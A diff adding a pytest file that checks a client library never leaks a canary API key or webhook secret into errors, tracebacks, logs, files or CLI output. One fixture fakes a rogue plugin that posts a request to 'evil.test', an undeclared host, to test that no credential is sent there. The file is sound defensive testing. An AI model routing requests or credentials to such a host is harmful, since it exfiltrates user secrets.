@@ -1,0 +1,424 @@
+"""The key: in the header at the server, and nowhere else, whatever goes wrong."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import copy
+import io
+import json
+import logging
+import pickle
+import subprocess
+import sys
+import traceback
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from tests.core import easel
+from tests.core.conftest import Connect
+from tests.core.loopback import Fault, Loopback, answer, said
+from tests.core.pictures import PNG, in_base64
+
+from tintype import (
+    Account,
+    AsyncClient,
+    Client,
+    Delivery,
+    ImageRequest,
+    Observation,
+    Secret,
+    hookimpl,
+    to_json,
+)
+from tintype.errors import JournalError, MissingKeyError, PluginError, UsageError
+
+ROOT = Path(__file__).parents[2]
+CANARY = "sk-canary-0451-do-not-tell"
+SIGNS = "whsec-canary-0452-do-not-tell"
+REQUEST = ImageRequest(prompt="a red panda", n=2)
+CREATE = "POST /v1/pictures"
+LOOK = "GET /v1/pictures/p1"
+LOGGERS = ("tintype", "urllib3", "aiohttp", "asyncio", "sqlalchemy", "concurrent")
+
+
+class Net:
+    """Catches whatever is said, logged or raised, and looks for the key in it."""
+
+    def __init__(self) -> None:
+        self.caught: list[str] = []
+
+    def observe(self, told: Observation) -> None:
+        """An observer that shows everything it is shown."""
+        self.caught += [repr(told), str(told.effect), str(told.reply), str(told.error)]
+        with contextlib.suppress(TypeError):  # a file that is being written
+            self.caught.append(repr(pickle.dumps((told.effect, told.reply))))
+
+    def catch(self, error: BaseException) -> None:
+        """An error as a crash reporter tells it: chains, and the local variables of frames."""
+        told = traceback.TracebackException.from_exception(error, capture_locals=True)
+        self.caught += ["".join(told.format()), str(error), repr(error), repr(vars(error))]
+        with contextlib.suppress(TypeError, AttributeError):
+            self.caught.append(repr(pickle.dumps(error)))
+
+    def holds(self, secret: str) -> list[str]:
+        """Where the secret stands."""
+        return [text[:200] for text in self.caught if secret in text]
+
+
+@pytest.fixture
+def net(caplog: pytest.LogCaptureFixture) -> Iterator[Net]:
+    """A net under a run in which everything is logged."""
+    made = Net()
+    for name in LOGGERS:
+        caplog.set_level(logging.DEBUG, name)
+    yield made
+    made.caught += [
+        record.getMessage() + repr(record.__dict__) + str(record.exc_info)
+        for record in caplog.records
+    ]
+    assert made.holds(CANARY) == []
+    assert made.holds(SIGNS) == []
+
+
+def account(server: Loopback, **fields: object) -> Account:
+    """An account with the canary."""
+    return Account(
+        provider="easel", key=CANARY, base_url=server.url, webhook_secret=SIGNS, **fields
+    )
+
+
+FAILURES = {
+    "refused": said({"why": "no"}, status=400),
+    "bad key": said({"why": "who are you?"}, status=401),
+    "broken": said({}, status=500),
+    "reset": Fault.RESET,
+    "closed": Fault.CLOSE,
+    "half": (b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n{", Fault.RESET),
+    "no http": b"SSH-2.0-OpenSSH\r\n\r\n",
+    "html": answer(b"<html>", media_type="text/html"),
+    "elsewhere": answer(status=307, headers=[("Location", "http://127.0.0.1:9/")]),
+    "zipped wrong": answer(b"no gzip", headers=[("Content-Encoding", "gzip")]),
+    "late": Fault.STALL,
+}
+
+
+@pytest.mark.parametrize("name", FAILURES)
+def test_a_submission_that_fails_tells_no_key(
+    connect: Connect, server: Loopback, net: Net, tmp_path: Path, name: str
+) -> None:
+    """Not in the error, its causes, its frames, the logs, the observers or the journal."""
+    server.on(CREATE, FAILURES[name])
+    client = connect(
+        account(server),
+        plugins={"easel": easel},
+        observers=[net.observe],
+        journal=tmp_path / "journal.db",
+        request_timeout=0.3 if name == "late" else None,
+    )
+    with pytest.raises(Exception) as caught:  # noqa: PT011 - whatever comes
+        client.generate(REQUEST, provider="easel")
+    net.catch(caught.value)
+    for attempt in getattr(caught.value, "attempts", ()):
+        if attempt.error is not None:
+            net.catch(attempt.error)
+    net.caught += [repr(client), repr(vars(client)), repr(client.account("easel"))]
+    net.caught += [repr(vars(client._setup))] if isinstance(client, Client) else []  # noqa: SLF001
+    assert all(request.header("authorization") for request in server.requests)
+    _sift(net, tmp_path)
+
+
+def _sift(net: Net, folder: Path) -> None:
+    """Every byte that was written into a folder."""
+    for path in folder.rglob("*"):
+        if path.is_file():
+            net.caught.append(path.read_bytes().decode("latin-1"))
+
+
+def test_a_run_with_every_kind_of_trouble_tells_no_key(
+    connect: Connect, server: Loopback, net: Net, tmp_path: Path
+) -> None:
+    """Polls that fail, a download that fails, a task that does not end: and what is saved."""
+    inline = said({"id": "p2", "state": "done", "picture": in_base64(PNG)})
+    done = said({"id": "p1", "state": "done", "urls": [f"{server.url}/1.png"]})
+    server.on(CREATE, said({"id": "p1", "state": "drawing"}), inline)
+    server.on(LOOK, Fault.RESET, said({}, status=500), answer(b"<p>"), done)
+    server.on("GET /1.png", said({}, status=404))
+    folder = tmp_path / "out"
+    client = connect(
+        account(server),
+        plugins={"easel": easel},
+        observers=[net.observe],
+        journal=tmp_path / "journal.db",
+    )
+    drawn = client.generate(REQUEST, provider="easel")
+    net.caught += [repr(drawn), repr(pickle.dumps(drawn)), *(to_json(t) for t in drawn.tasks)]
+    with pytest.raises(Exception) as caught:  # noqa: PT011 - whatever comes
+        client.save(drawn, folder)
+    net.catch(caught.value)
+    client.save(drawn.tasks[1], folder)
+    net.caught += [repr(client.resume(folder)), repr(client.journal.lines())]
+    _sift(net, tmp_path)
+    assert len(list(folder.iterdir())) == 1
+    assert "p1" in "".join(net.caught)
+    fetched = [request for request in server.requests if request.target == "/1.png"]
+    assert all(request.header("authorization") is None for request in fetched)
+    assert server.requests[0].header("authorization") == f"Bearer {CANARY}"
+
+
+@pytest.mark.parametrize("stall", ["answer", "body"])
+async def test_a_cancelled_call_tells_no_key(
+    server: Loopback, net: Net, tmp_path: Path, stall: str
+) -> None:
+    """The frames of a cancellation hold no header."""
+    begun = b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n{"
+    server.on(CREATE, Fault.STALL if stall == "answer" else (begun, Fault.STALL))
+    options = {"plugins": {"easel": easel}, "journal": tmp_path / "journal.db", "environ": {}}
+    async with AsyncClient(account(server), **options) as client:
+        drawing = asyncio.create_task(client.generate(REQUEST, provider="easel"))
+        await asyncio.to_thread(server.has_been_asked)
+        drawing.cancel()
+        with pytest.raises(asyncio.CancelledError) as caught:
+            await drawing
+        net.catch(caught.value)
+        with pytest.raises(TimeoutError) as late:
+            async with asyncio.timeout(0.2):
+                await client.generate(REQUEST, provider="easel")
+        net.catch(late.value)
+        net.caught += [repr(drawing)]
+    assert server.is_left_alone()
+
+
+INTERRUPTED = """
+import os, signal, sys, threading, traceback
+from tests.core import easel
+from tintype import Account, Client, ImageRequest
+account = Account(provider="easel", key=sys.argv[2], base_url=sys.argv[1])
+with Client(account, plugins={"easel": easel}, environ={}) as client:
+    def ring():
+        sys.stdin.readline()
+        os.kill(os.getpid(), signal.SIGINT)
+    threading.Thread(target=ring, daemon=True).start()
+    try:
+        client.generate(ImageRequest(prompt="p"), provider="easel")
+    except KeyboardInterrupt as error:
+        # Of the library's frames only: ours holds the arguments of the command.
+        error.__traceback__ = error.__traceback__.tb_next
+        told = traceback.TracebackException.from_exception(error, capture_locals=True)
+        print("".join(told.format()))
+"""
+
+
+def test_an_interrupted_call_tells_no_key(server: Loopback) -> None:
+    """Nor do those of Ctrl-C."""
+    server.on(CREATE, Fault.STALL)
+    process = subprocess.Popen(  # noqa: S603 - our own code
+        [sys.executable, "-W", "error", "-c", INTERRUPTED, server.url, CANARY],
+        cwd=ROOT,
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+    )
+    assert server.has_been_asked()
+    out, _ = process.communicate("now\n", timeout=60)
+    assert "KeyboardInterrupt" in out
+    assert "_performing" in out
+    assert CANARY not in out
+
+
+# ------------------------------------------------------------------------ before anything is sent
+
+
+def test_a_client_that_cannot_be_made_tells_no_key(net: Net, tmp_path: Path) -> None:
+    """The environment is in no frame of ours as it is."""
+    environ = {"EASEL_API_KEY": CANARY, "EASEL_WEBHOOK_SECRET": SIGNS}
+    (tmp_path / "noise").write_bytes(b"no database" * 100)
+    for kind in (Client, AsyncClient):
+        for options in (
+            {"journal": tmp_path / "noise"},
+            {"budgets": [1]},
+            {"task_timeout": -1},
+        ):
+            with pytest.raises((JournalError, UsageError)) as caught:
+                kind(environ=environ, **options)
+            _cut(caught.value)
+            net.catch(caught.value)
+
+
+def _cut(error: BaseException) -> None:
+    """Leave out this test's own frame, which holds the key by itself."""
+    if error.__traceback__ is not None:
+        error.__traceback__ = error.__traceback__.tb_next
+
+
+@pytest.mark.parametrize("worth", ["much", "-1", "NaN"])
+def test_an_account_that_cannot_be_read_tells_no_key(net: Net, worth: str) -> None:
+    """What else stands in the environment is not told with what is wrong there."""
+    environ = {"EASEL_API_KEY": CANARY, "EASEL_USD_PER_CREDIT": worth}
+    with Client(plugins={"easel": easel}, environ=environ) as client:
+        with pytest.raises(UsageError) as caught:
+            client.generate(REQUEST, provider="easel")
+        _cut(caught.value)
+        net.catch(caught.value)
+
+
+@pytest.mark.parametrize("spoil", [f"{CANARY}\n", f" {CANARY} x", f"{CANARY}é"])
+def test_a_key_that_no_header_can_carry_is_not_shown(
+    connect: Connect, server: Loopback, net: Net, spoil: str
+) -> None:
+    """The error says that it is wrong, not what it is."""
+    spoilt = Account(provider="easel", key=spoil, base_url=server.url)
+    client = connect(spoilt, plugins={"easel": easel})
+    with pytest.raises(MissingKeyError) as caught:
+        client.generate(REQUEST, provider="easel")
+    _cut(caught.value)
+    net.catch(caught.value)
+
+
+def test_a_base_url_with_a_password_does_not_show_it(connect: Connect, net: Net) -> None:
+    """It is refused, and told without the password."""
+    spoilt = Account(provider="easel", key=CANARY, base_url=f"https://me:{SIGNS}@host/x")
+    with pytest.raises(UsageError) as caught:
+        connect(spoilt, plugins={"easel": easel}).generate(REQUEST, provider="easel")
+    net.caught += [str(caught.value), repr(caught.value)]
+
+
+def test_a_webhook_that_is_refused_does_not_tell_its_secret(
+    connect: Connect, server: Loopback, net: Net
+) -> None:
+    """The secret is compared, and in no frame of ours."""
+    plugin = _with_verify()
+    client = connect(account(server), plugins={"easel": plugin})
+    delivery = Delivery(body=json.dumps({"id": "p1", "state": "done"}).encode())
+    with pytest.raises(Exception, match="signature") as caught:
+        client.receive(delivery, provider="easel")
+    net.catch(caught.value)
+    assert server.requests == []
+
+
+def _with_verify() -> object:
+    import types  # noqa: PLC0415 - needed once
+
+    plugin = types.ModuleType("easel_with_signatures")
+    for name in ("describe", "price", "submit", "poll", "parse"):
+        setattr(plugin, name, getattr(easel, name))
+
+    @hookimpl
+    def verify(exchange: object, secret: str) -> bool:
+        """Never."""
+        return not (exchange and secret)
+
+    plugin.verify = verify  # type: ignore[attr-defined]
+    return plugin
+
+
+def test_a_plugin_that_asks_for_a_credential_elsewhere_gets_none(
+    connect: Connect, server: Loopback, net: Net
+) -> None:
+    """And the error tells none."""
+    client = connect(
+        Account(provider="easel", key=CANARY, base_url="https://api.other.test"),
+        plugins={"easel": _astray()},
+    )
+    with pytest.raises(PluginError) as caught:
+        client.submit(REQUEST.__class__(prompt="p"), provider="easel")
+    net.catch(caught.value)
+    assert server.requests == []
+
+
+def _astray() -> object:
+    import types  # noqa: PLC0415 - needed once
+
+    from tintype import Request  # noqa: PLC0415 - needed once
+
+    plugin = types.ModuleType("easel_astray")
+    for name in ("describe", "price", "poll", "parse"):
+        setattr(plugin, name, getattr(easel, name))
+
+    @hookimpl
+    def submit(request: ImageRequest) -> Request:
+        """To a host that is not declared."""
+        return Request.post("https://evil.test/", {"prompt": request.prompt})
+
+    plugin.submit = submit  # type: ignore[attr-defined]
+    return plugin
+
+
+# ----------------------------------------------------------------------------- the type itself
+
+
+def test_a_secret_shows_itself_only_when_asked() -> None:
+    """Its text, repr, pickle, format and JSON are redactions; a copy stays within the process."""
+    secret = Secret(CANARY)
+    made = Account(provider="easel", key=secret, webhook_secret=SIGNS)
+    shown = [repr(secret), str(secret), f"{secret}", f"{secret!r:>40}", repr(made), f"{made}"]
+    shown += [repr(pickle.dumps(secret)), repr(pickle.dumps(made))]
+    out = io.StringIO()
+    print(secret, made, file=out)
+    assert [text for text in [*shown, out.getvalue()] if CANARY in text or SIGNS in text] == []
+    with pytest.raises(TypeError):
+        json.dumps(secret)
+    assert copy.deepcopy(made).key is secret
+    assert secret.reveal() == CANARY
+    assert not hasattr(secret, "__dict__")
+
+
+def test_an_account_goes_into_no_json(server: Loopback) -> None:
+    """Whatever the converter makes of it, the key is not there."""
+    try:
+        text = to_json(account(server))
+    except Exception as error:  # noqa: BLE001 - an error is as good
+        text = str(error)
+    assert CANARY not in text
+
+
+# --------------------------------------------------------------------------- the command line
+
+
+@pytest.mark.parametrize("what", ["reset", "bad key", "html", "no http"])
+def test_the_command_line_tells_no_key(server: Loopback, tmp_path: Path, what: str) -> None:
+    """Neither on stderr nor in what it leaves behind."""
+    server.on("*", FAILURES[what])
+    environ = {
+        "PATH": "",
+        "TINTYPE_JOURNAL": str(tmp_path / "journal.db"),
+        "APIYI_API_KEY": CANARY,
+        "APIYI_BASE_URL": server.url,
+        "PYTHONASYNCIODEBUG": "1",
+    }
+    told = ""
+    for arguments in (
+        ("generate", "a red panda", "-p", "apiyi", "-o", str(tmp_path / "out")),
+        ("tasks", "--all", "--json"),
+        ("resume", "-o", str(tmp_path / "out")),
+    ):
+        done = subprocess.run(  # noqa: S603 - our own command
+            [sys.executable, "-X", "dev", "-c", "from tintype.cli import main; main()", *arguments],
+            env=environ,
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+        )
+        told += done.stdout + done.stderr
+    assert "apiyi" in told
+    assert CANARY not in told
+    for path in tmp_path.rglob("*"):
+        if path.is_file():
+            assert CANARY.encode() not in path.read_bytes()
+    assert server.requests[0].header("authorization") == f"Bearer {CANARY}"
+
+
+def test_the_net_catches() -> None:
+    """A key in a frame is found: what these tests rest on."""
+    net = Net()
+
+    def leak(key: str) -> None:
+        raise ValueError(len(key))
+
+    try:
+        leak(CANARY)
+    except ValueError as error:
+        net.catch(error)
+    assert net.holds(CANARY)
